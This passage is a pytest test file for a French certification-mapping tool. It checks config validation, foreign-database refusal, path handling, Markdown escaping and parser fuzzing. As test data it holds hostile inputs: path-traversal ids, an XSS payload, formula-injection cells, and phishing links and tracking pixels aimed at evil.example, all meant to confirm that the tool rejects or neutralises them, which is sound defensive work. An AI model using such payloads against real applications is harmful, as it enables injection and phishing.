    path.write_text(json.dumps({"data_dir": str(data_dir), "matching": {"calibration": str(artifact)}}))
    refused(*cli("pairs", config=path), str(artifact), "artefact de calibration invalide")


def test_toml_nan_and_inf_are_refused(cli, tmp_path: Path) -> None:
    path = tmp_path / "crossref.toml"
    path.write_text("[matching]\nhubness = nan\n", encoding="utf-8")
    refused(*cli("competences", config=path), "matching.hubness = NaN", "non finie")
    path.write_text("[matching]\ndirection_margin = -inf\n", encoding="utf-8")
    refused(*cli("competences", config=path), "matching.direction_margin = -∞")


def test_config_built_in_code_is_checked_too() -> None:
    from dataclasses import replace

    with pytest.raises(ConfigError, match="matching.top_k"):
        replace(Config(), matching=replace(Config().matching, top_k=0))
    Config()  # the defaults pass


def test_known_views_are_the_pipeline_views() -> None:
    from crossref.config_checks import VIEWS
    from crossref.model import Corpus
    from crossref.corpus_views import competence_views

    assert tuple(competence_views(Corpus([])).views) == VIEWS


def test_unwritable_cache_dir_is_refused_before_the_run(cli, tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr(crossref.pipeline, "compute", lambda *a: pytest.fail("computed anyway"))
    (tmp_path / "fichier").write_text("x", encoding="utf-8")
    path = tmp_path / "crossref.json"
    path.write_text(json.dumps({"data_dir": str(tmp_path / "data"),
                                "embedding": {"cache_dir": str(tmp_path / "fichier" / "cache")}}))
    refused(*cli("pairs", config=path), "embedding.cache_dir", "dossier impossible à créer")


# ================================================================ 7. foreign SQLite file
def _foreign(path: Path) -> Path:
    con = sqlite3.connect(path)
    con.execute("CREATE TABLE clients (id INTEGER PRIMARY KEY, nom TEXT)")
    con.execute("INSERT INTO clients (nom) VALUES ('Dupont')")
    con.commit()
    con.close()
    return path


def _store_config(tmp_path: Path, data_dir: Path, db: Path) -> Path:
    cfg = tmp_path / "store.json"
    cfg.write_text(json.dumps({"data_dir": str(data_dir), "database_url": f"sqlite:///{db}"}), encoding="utf-8")
    return cfg


@pytest.mark.parametrize("argv", [
    ["review", "list"], ["review", "list", "--history"], ["review", "list", "--pending"],
    ["review", "accept", "ICD:C1.1", "NEOMA:C1", "--reviewer", "alice"],
    ["review", "reject", "ICD:C1.1", "NEOMA:C1", "--reviewer", "alice"],
    ["pairs"],
])
def test_foreign_sqlite_file_is_refused_untouched(cli, tmp_path: Path, data_dir: Path, monkeypatch, argv) -> None:
    from crossref.referentiels import load_corpus

    def run(config, extra=(), decisions=True, **_):  # the model stays out; the store is read as usual
        pairs = fake_pairs("x")
        if decisions:
            pairs = crossref.pipeline.apply_reviewed(pairs, config)
        return crossref.pipeline.Results(config=config, corpus=load_corpus(config.data_dir, extra), pairs=pairs)

    monkeypatch.setattr(crossref.pipeline, "run", run)
    db = _foreign(tmp_path / "clients.sqlite")
    cfg = _store_config(tmp_path, data_dir, db)
    before = snapshot(tmp_path)
    refused(*cli(*argv, config=cfg), "n'est pas une base de décisions crossref", "clients", "pas été modifiée")
    assert snapshot(tmp_path) == before  # byte-identical, no -wal/-shm file, no schema_version table


def test_foreign_files_refused_by_the_store_api(tmp_path: Path) -> None:
    from crossref.review import DecisionStore

    db = _foreign(tmp_path / "clients.sqlite")
    text = tmp_path / "notes.sqlite"
    text.write_text("ceci n'est pas une base\n" * 100, encoding="utf-8")
    before = snapshot(tmp_path)
    for path in (db, text):
        with pytest.raises(CrossrefError, match=re.escape(str(path))):
            store = DecisionStore(f"sqlite:///{path}")
            store.accept("A:C1", "B:C1", "alice", model_relation="partial")
    assert snapshot(tmp_path) == before


def test_read_commands_never_write_the_store(cli, tmp_path: Path, data_dir: Path) -> None:
    empty = tmp_path / "vide.sqlite"
    empty.write_bytes(b"")  # an empty SQLite database: reads see no decision and leave it as it is
    cfg = _store_config(tmp_path, data_dir, empty)
    rc, out, err = cli("review", "list", config=cfg)
    assert rc == 0 and out.startswith("id,source,target"), err
    assert empty.read_bytes() == b"" and sorted(p.name for p in tmp_path.iterdir() if "vide" in p.name) == \
        ["vide.sqlite"]
    missing = tmp_path / "absent" / "d.sqlite"
    assert cli("review", "list", config=_store_config(tmp_path, data_dir, missing))[0] == 0
    assert not missing.parent.exists()


@pytest.mark.parametrize("reviewer, note", [("Eve\x00", ""), ("x" * 201, ""), ("Eve", "note\x1b[31m"),
                                            ("Eve", "n" * 10_001)])
def test_decision_texts_are_bounded_and_printable(tmp_path: Path, reviewer: str, note: str) -> None:
    from crossref.review import DecisionStore

    db = tmp_path / "d.sqlite"
    with DecisionStore(f"sqlite:///{db}") as store:
        with pytest.raises(CrossrefError, match="caractères au plus"):
            store.amend("A:C1", "B:C1", "partial", reviewer, note)
    assert not db.exists()


def test_password_is_masked_in_store_errors() -> None:
    from crossref.review import DecisionStore

    with pytest.raises(CrossrefError) as info:
        DecisionStore("postgresql+nosuchdriver://alice:s3cr3t@db.example/crossref")
    assert "s3cr3t" not in str(info.value)


# ================================================================ 8. manifest ids and paths
def _manifest(data_dir: Path, edit) -> Path:
    path = data_dir / "raw" / "sources.json"
    entries = json.loads(path.read_text(encoding="utf-8"))
    path.write_text(json.dumps(edit(entries)), encoding="utf-8")
    return path


MANIFESTS = {
    "id climbing out": (lambda e: [{**e[0], "id": "../../x"}, *e[1:]], "identifiant de certification invalide"),
    "lower-case id": (lambda e: [{**e[0], "id": "icd"}, *e[1:]], "identifiant de certification invalide"),
    "id with a dash": (lambda e: [{**e[0], "id": "ICD-2"}, *e[1:]], "identifiant de certification invalide"),
    "duplicate id": (lambda e: [*e, e[0]], "déjà déclaré"),
    "file outside the folder": (lambda e: [{**e[0], "files": ["../referentiels/ICD.json"]}, *e[1:]],
                                "sort du dossier"),
    "absolute file": (lambda e: [{**e[0], "files": ["/etc/hostname"]}, *e[1:]], "sort du dossier"),
    "files not a list": (lambda e: [{**e[0], "files": "icd.txt"}, *e[1:]], "liste non vide"),
    "parser not a string": (lambda e: [{**e[0], "parser": ["icd"]}, *e[1:]], "parseur inconnu"),
    "no title": (lambda e: [{k: v for k, v in e[0].items() if k != "title"}, *e[1:]], "title"),
    "indivisible not a boolean": (lambda e: [{**e[0], "indivisible": "oui"}, *e[1:]], "true ou false"),
    "empty manifest": (lambda e: [], "manifeste vide"),
}


@pytest.mark.parametrize("case", list(MANIFESTS))
def test_bad_manifest_exits_2_and_writes_nothing(cli, tmp_path: Path, data_dir: Path, case: str) -> None:
    edit, fragment = MANIFESTS[case]
    manifest = _manifest(data_dir, edit)
    before = snapshot(tmp_path)
    refused(*cli("ingest"), str(manifest), fragment)
    assert snapshot(tmp_path) == before  # nothing in data/referentiels, nothing outside data/


def test_index_ids_never_name_files_outside(cli, data_dir: Path, tmp_path: Path) -> None:
    (tmp_path / "x.json").write_text((data_dir / "referentiels" / "ICD.json").read_text(encoding="utf-8"))
    index = data_dir / "referentiels" / "index.json"
    for ids, fragment in ((["../../x"], "identifiant de certification invalide"), ([], "index vide")):
        index.write_text(json.dumps(ids), encoding="utf-8")
        refused(*cli("competences"), str(index), fragment)


@pytest.mark.parametrize("cert_id", ["B-2", "a", "X/Y", "..", "X.Y"])
def test_template_ids_follow_the_one_pattern(tmp_path: Path, cert_id: str) -> None:
    p = tmp_path / "ids.csv"
    with p.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([COLUMNS, [cert_id, *ROW.split(",")[1:]]])
    with pytest.raises(InputError, match="identifiant de certification invalide") as info:
        load_file(p)
    assert (info.value.row, info.value.column) == (2, "certification")


# ================================================================ 9. markdown injection
LINK = "[Cliquez ici](https://evil.example/phish)"
IMAGE = "![pixel](https://evil.example/pixel.png)"


def _rendered_html(markdown: str) -> str:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown)


MARKDOWNISH = st.lists(st.one_of(
    st.sampled_from(list("[]()!*_`#>-+=|<&;:/.\\~$ \t\n") + ["https://", "www.", "&amp;", "    ", "\n\n"]),
    st.characters(codec="utf-8", exclude_categories=("Cs",), exclude_characters="\x00")), max_size=60).map("".join)


@given(MARKDOWNISH | st.sampled_from([LINK, IMAGE, "<img src=x onerror=alert(1)>", "# Titre\n---", "    code",
                                      "1. un\n- deux", "| a | b |\n|---|---|", "**gras** _it_", "&copy; &#65;"]))
@settings(max_examples=400, deadline=None)
def test_escaped_markdown_renders_the_text_literally(text: str) -> None:
    from html import unescape

    from crossref.mdsafe import escape_markdown

    html = _rendered_html(escape_markdown(text))
    assert "<a " not in html and "<img" not in html and "<em>" not in html and "<strong>" not in html
    assert "<h" not in html.replace("<hr", "") and "<code>" not in html and "<li>" not in html
    assert "<table" not in html and "<blockquote>" not in html and "<hr" not in html
    # ...and the reader sees the text as written (spacing aside).
    plain = unescape(re.sub(r"<[^>]+>", "", html))
    assert plain.split() == text.split()


def _markdown_texts(at) -> list[str]:
    """Every markdown source the page renders (bodies, labels)."""
    out = []
    for kind in ("markdown", "caption", "success", "info", "warning", "error", "subheader", "header", "title"):
        out += [str(e.value) for e in getattr(at, kind)]
    out += [e.label for e in at.expander]  # badges are markdown elements (":blue-badge[...]")
    return out


def test_user_texts_never_render_links_or_images(tmp_path: Path, monkeypatch) -> None:
    from streamlit.testing.v1 import AppTest

    from crossref.ui import PAGES, state

    data = tmp_path / "data"
    for sub in ("referentiels", "templates"):
        shutil.copytree(DATA / sub, data / sub)
    (data / "imported").mkdir()
    rows = [list(COLUMNS),
            ["PIEGE", f"Titre {LINK}", "B1", f"Bloc {IMAGE}", "C1", f"**Gras** {LINK}",
             f"Énoncé {IMAGE} <img src=x onerror=alert(1)> https://evil.example", f"Critère {LINK}"]]
    with (data / "imported" / "piege.csv").open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    cfg = tmp_path / "config.json"
    cfg.write_text(json.dumps({"data_dir": str(data), "database_url": f"sqlite:///{tmp_path / 'd.sqlite'}"}))
    monkeypatch.setenv(state.ENV_CONFIG, str(cfg))
    config = Config.load(cfg)
    # A decision whose reviewer name and note are links too.
    snap_pairs = crossref.pipeline.run(config, state.imported_files(config), decisions=False).pairs
    pair = snap_pairs[(snap_pairs["source_cert"] == "PIEGE")].sort_values("score").iloc[-1]
    state.decide(config, "amend", pair["source"], pair["target"], f"Eve {LINK}", f"note {IMAGE}",
                 relation="partial")
    shown = []
    for page in PAGES:
        at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=180)
        at.switch_page(page.app_relative)
        at.run()
        if page.file == "equivalences.py":
            at.multiselect(key="eq_src_certs").set_value(["PIEGE"]).run()
            at.multiselect(key="eq_relations").set_value(["equivalent", "partial", "none"]).run()
            at.selectbox(key="eq_pair").set_value(f"{pair['source']}|{pair['target']}").run()
        if page.file == "passerelles.py":
            at.selectbox(key="pa_from").set_value("ICD").run()
            at.selectbox(key="pa_to").set_value("PIEGE").run()
        assert not at.exception, (page.file, [e.value for e in at.exception])
        for md in _markdown_texts(at):
            html = _rendered_html(md)
            assert "<a " not in html and "<img" not in html, (page.file, md)
            shown.append(md)
    joined = "\n".join(shown)
    assert "PIEGE" in joined and "Eve" in joined  # the texts are there, as text
    assert "evil\\.example" in joined


# ================================================================ 10. server defaults, reviewer identity
def test_server_listens_locally_and_hides_tracebacks() -> None:
    conf = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert conf["client"]["showErrorDetails"] == "none"
    assert conf["server"]["address"] == "127.0.0.1"
    makefile = (ROOT / "Makefile").read_text(encoding="utf-8")
    assert re.search(r"^ADDRESS \?= 127\.0\.0\.1$", makefile, re.M)
    app = re.search(r"^app:.*\n((?:\t.*\n)+)", makefile, re.M).group(1)
    assert "--server.address $(ADDRESS)" in app
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    assert "ADDRESS=0.0.0.0" in readme and "CROSSREF_REVIEWER_HEADER" in readme


@pytest.fixture
def review_app(tmp_path: Path, monkeypatch):
    from crossref.ui import state

    data = tmp_path / "data"
    shutil.copytree(DATA / "referentiels", data / "referentiels")
    crossref.pipeline.run(Config(data_dir=str(data)), decisions=False)  # disk cache shared with test_app
    cfg = tmp_path / "config.json"
    cfg.write_text(json.dumps({"data_dir": str(data), "database_url": f"sqlite:///{tmp_path / 'd.sqlite'}"}))
    monkeypatch.setenv(state.ENV_CONFIG, str(cfg))
    return Config.load(cfg)


def _equivalences():
    from streamlit.testing.v1 import AppTest

    from crossref.ui import PAGES

    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=180)
    at.switch_page(next(p for p in PAGES if p.file == "equivalences.py").app_relative)
    at.run()
    assert not at.exception
    return at


def _reviewers(config: Config) -> list[str]:
    from crossref.review import DecisionStore

    with DecisionStore(config.db_url) as store:
        return list(store.history()["reviewer"])


def test_reviewer_name_is_set_once_per_session(review_app) -> None:
    at = _equivalences()
    at.text_input(key="eq_reviewer").input("Alice Martin")
    at.button(key="eq_reject").click().run()
    assert not at.error, [e.value for e in at.error]
    # The name is now fixed: no field to type another one; the next decision is Alice's too.
    assert not [t for t in at.text_input if t.key == "eq_reviewer"]
    assert any("Alice Martin" in m.value for m in at.markdown)
    box = at.selectbox(key="eq_pair")
    box.set_value(next(o for o in box.options if o != box.value)).run()
    at.button(key="eq_reject").click().run()
    assert _reviewers(review_app) == ["Alice Martin", "Alice Martin"]
    other = _equivalences()  # another session asks again
    assert [t for t in other.text_input if t.key == "eq_reviewer"]


def test_reviewer_from_an_authenticating_proxy(review_app, monkeypatch) -> None:
    from crossref.ui import state

    monkeypatch.setenv(state.ENV_REVIEWER_HEADER, "X-Forwarded-User")
    monkeypatch.setattr(state, "_request_headers", lambda: {"X-Forwarded-User": "amartin@example.org"})
    at = _equivalences()
    assert not [t for t in at.text_input if t.key == "eq_reviewer"]
    at.button(key="eq_reject").click().run()
    assert _reviewers(review_app) == ["amartin@example.org"]
    monkeypatch.setattr(state, "_request_headers", lambda: {})  # the proxy sent no identity
    at = _equivalences()
    at.button(key="eq_accept").click().run()
    assert any("proxy" in e.value for e in at.error)
    assert _reviewers(review_app) == ["amartin@example.org"]


# ================================================================ property tests: every parser
SUFFIXES = [".csv", ".xlsx", ".xml", ".json", ".txt"]
PROPERTY = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


def _expect_own_error(fn, *args) -> None:
    try:
        fn(*args)
    except CrossrefError:
        pass


@pytest.mark.parametrize("suffix", SUFFIXES)
@given(blob=st.binary(max_size=600))
@PROPERTY
def test_random_bytes_to_every_format(tmp_path: Path, suffix: str, blob: bytes) -> None:
    p = tmp_path / f"aleatoire{suffix}"
    p.write_bytes(blob)
    _expect_own_error(load_file, p)


@given(blob=st.binary(max_size=400), which=st.sampled_from(["manifest", "gold", "toml", "json", "index"]))
@PROPERTY
def test_random_bytes_to_the_other_readers(tmp_path: Path, blob: bytes, which: str) -> None:
    from crossref.evaluation import read_gold
    from crossref.parsing.seeds import ingest_manifest
    from crossref.referentiels import load_builtin

    if which == "manifest":
        (tmp_path / "sources.json").write_bytes(blob)
        _expect_own_error(ingest_manifest, tmp_path / "sources.json")
    elif which == "gold":
        (tmp_path / "gold.csv").write_bytes(blob)
        _expect_own_error(read_gold, tmp_path / "gold.csv")
    elif which == "index":
        (tmp_path / "referentiels").mkdir(exist_ok=True)
        (tmp_path / "referentiels" / "index.json").write_bytes(blob)
        _expect_own_error(load_builtin, tmp_path)
    else:
        (tmp_path / f"c.{which}").write_bytes(blob)
        _expect_own_error(Config.load, tmp_path / f"c.{which}")


@given(blob=st.binary(max_size=300), raw=st.sampled_from(["icd", "neoma", "rs", "cpmc"]))
@PROPERTY
def test_random_bytes_to_the_raw_text_parsers(tmp_path: Path, blob: bytes, raw: str) -> None:
    from crossref.parsing.seeds import Source, build

    p = tmp_path / "brut.txt"
    p.write_bytes(blob)
    _expect_own_error(build, Source("X", raw, [p, p] if raw == "icd" else [p], {"title": "T"}))


# Cells a careless or hostile author could type.
CELL = st.one_of(
    st.sampled_from(["", " ", "EX", "EX2", "B1", "1", "Bloc 2", "C1", "C1.1", "C2", "a:b", "C 1", "ex", "É",
                     "=1+1", "-x", "x | y", "\n", "\x00", "\x0c", "'=z", "\"", ",", "[l](http://e)", "𝔘"]),
    st.text(max_size=30),
)


def _template_rows(draw_rows: list[list[str]], header: list[str]) -> list[list[str]]:
    return [header, *draw_rows]


@given(header=st.permutations(list(COLUMNS)) | st.lists(st.sampled_from([*COLUMNS, "x", ""]), max_size=10),
       rows=st.lists(st.lists(CELL, min_size=0, max_size=10), max_size=8),
       fmt=st.sampled_from(["csv", "xlsx"]))
@PROPERTY
def test_random_well_formed_templates(tmp_path: Path, header: list[str], rows: list[list[str]], fmt: str) -> None:
    p = tmp_path / f"modele.{fmt}"
    if fmt == "csv":
        with p.open("w", encoding="utf-8", newline="") as fh:
            csv.writer(fh).writerows(_template_rows(rows, header))
    else:
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        wb = openpyxl.Workbook()
        for r in _template_rows(rows, header):
            wb.active.append([ILLEGAL_CHARACTERS_RE.sub("", c) for c in r])
        wb.save(p)
    try:
        certs = load_file(p)
    except CrossrefError:
        return
    for cert in certs:  # what loads is consistent
        cert.validate()


TEXT = st.text(max_size=40).map(lambda s: s.replace("<", "").replace("&", "").replace("]]>", ""))


@given(numero=st.sampled_from(["RNCP1", "RS2", "RNCP 0003", "X", "", "rncp4"]), title=TEXT,
       items=st.lists(st.one_of(TEXT, st.sampled_from(["C1. a", "C1 - b", "C1.2 c", "C2) d", ":", "- e"])),
                      max_size=6),
       escaped=st.booleans(), blocs=st.integers(0, 3))
@PROPERTY
def test_random_well_formed_fc_fiches(tmp_path: Path, numero: str, title: str, items: list[str],
                                      escaped: bool, blocs: int) -> None:
    lis = "".join(f"<p>{i}</p>" for i in items)
    body = lis.replace("<", "&lt;").replace(">", "&gt;") if escaped else lis
    bloc = f"<BLOC_COMPETENCES><CODE>BC01</CODE><LIBELLE>{title}</LIBELLE><LISTE_COMPETENCES>{body}" \
           "</LISTE_COMPETENCES></BLOC_COMPETENCES>"
    xml = (f'<?xml version="1.0" encoding="UTF-8"?><FICHES><FICHE><NUMERO_FICHE>{numero}</NUMERO_FICHE>'
           f"<INTITULE>{title}</INTITULE><BLOCS_COMPETENCES>{bloc * blocs}</BLOCS_COMPETENCES>"
           f"<CAPACITES_ATTESTEES>{body}</CAPACITES_ATTESTEES></FICHE></FICHES>")
    p = tmp_path / "fiche.xml"
    p.write_text(xml, encoding="utf-8")
    _expect_own_error(load_file, p)


JSON_VALUE = st.recursive(st.none() | st.booleans() | st.integers() | st.text(max_size=10),
                          lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner,
                                                                                      max_size=3),
                          max_leaves=10)


@given(base=st.sampled_from(["ICD", "RS"]), path=st.lists(st.sampled_from(
    ["id", "title", "blocs", "competences", "criteria", "modalities", "indivisible", "sources", 0, 1]),
    min_size=1, max_size=3), value=JSON_VALUE)
@PROPERTY
def test_random_wrong_values_in_crossref_json(tmp_path: Path, base: str, path: list, value) -> None:
    doc = json.loads((DATA / "referentiels" / f"{base}.json").read_text(encoding="utf-8"))
    node = doc
    for key in path[:-1]:  # walk as far as the path exists, then replace what is there
        if isinstance(node, dict) and key in node and isinstance(node[key], (dict, list)):
            node = node[key]
        elif isinstance(node, list) and isinstance(key, int) and key < len(node):
            node = node[key]
    last = path[-1]
    if isinstance(node, dict):
        node[str(last)] = value
    elif isinstance(node, list) and node:
        node[int(last) % len(node) if isinstance(last, int) else 0] = value
    p = tmp_path / "cert.json"
    p.write_text(json.dumps(doc), encoding="utf-8")
    _expect_own_error(load_file, p)


@given(section=st.sampled_from(["matching", "passerelles", "embedding"]),
       key=st.sampled_from(["top_k", "hubness", "channels", "partial_threshold", "full_coverage", "threads",
                            "cache_dir", "reference_std", "calibration_scale", "x"]),
       value=st.one_of(st.floats(allow_nan=True, allow_infinity=True), st.integers(-5, 10**12), st.text(max_size=5),
                       st.dictionaries(st.text(max_size=12), st.floats(), max_size=3), st.booleans()))
@PROPERTY
def test_random_configuration_values(section: str, key: str, value) -> None:
    _expect_own_error(Config.from_dict, {section: {key: value}})
